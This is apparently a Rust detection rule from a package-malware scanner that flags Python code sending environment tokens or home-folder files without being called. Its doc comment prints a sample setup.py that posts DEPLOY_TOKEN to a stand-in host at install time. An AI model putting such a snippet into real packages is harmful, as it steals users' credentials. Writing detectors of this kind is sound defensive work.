//! ## What it detects
//!
//! A token from the environment, or what was read from a file, sent as data by code that nobody called.
//!
//! ## Why it is bad
//!
//! Installing or importing a package asks for nothing to be sent, least of all what the user keeps. Attackers take one token, or one file of the home folder, as well as all of them.
//!
//! ## Innocent lookalikes
//!
//! Telemetry tells the version and the platform. A client signs in with a token of the environment once it is used, and in the headers.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os, json, urllib.request
//! token = os.getenv('DEPLOY_TOKEN')
//! urllib.request.urlopen('http://x.example.invalid', json.dumps({'t': token}).encode())
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import os, requests
//! def start():
//!     return requests.post('http://x.example.invalid', json={'t': os.getenv('DEPLOY_TOKEN')})
//! ```

use fondaco_python::{Call, Role, Taint, Unit, Value, signs_in};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use super::secret_exfiltration::of;
use crate::sending::sent;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("private-upload"),
    title: "sends a file or a token while nobody asked",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        let unasked = call.trigger.is_some_and(Trigger::is_unasked);
        let data = || sent(call).filter(|(name, _)| !signs_in(name)).map(|(_, value)| value);
        if !unasked || call.callee.contains(".recv") || !is_addressed(call) {
            continue;
        }
        let is_file = || {
            let early = matches!(call.trigger, Some(Trigger::Install | Trigger::Startup));
            let at = usize::from(!call.callee.starts_with("socket.") && !is_mail(call));
            (early || of_home(unit)) && data().skip(at).any(is_read)
        };
        if data().any(is_token) || is_file() {
            hits.call(unit, call, format!("{} of a file or a token", call.callee));
        }
    }
}

/// Whether a call sends a mail: to whom was said when it was written, or to the server.
pub(super) fn is_mail(call: &Call) -> bool {
    call.callee.starts_with("smtplib.")
}

/// Whether whom a call talks to is written in the code.
fn is_addressed(call: &Call) -> bool {
    let is_address = |text: &str| text.contains("://") || text.parse::<std::net::Ipv4Addr>().is_ok();
    call.callee.starts_with("socket.") || is_mail(call) || call.texts().into_iter().any(is_address)
}

/// Whether a module looks for the user's own folder, or for the source of who imports it, and takes no arguments of a command line.
fn of_home(unit: &Unit) -> bool {
    let has = |mark: &str| unit.text.contains(mark);
    unit.role == Role::Module
        && (has("expanduser") || has("Path.home()") || has("USERPROFILE") || has("inspect.stack"))
        && !has("sys.argv")
        && !has("argparse")
}

fn is_token(value: &Value) -> bool {
    let taint = of(value);
    taint.has(Taint::ENVIRONMENT) && taint.has(Taint::SECRET)
}

fn is_read(value: &Value) -> bool {
    let taint = of(value);
    taint.has(Taint::FILE) && !taint.has(Taint::NETWORK | Taint::FETCHED | Taint::WRITTEN)
}
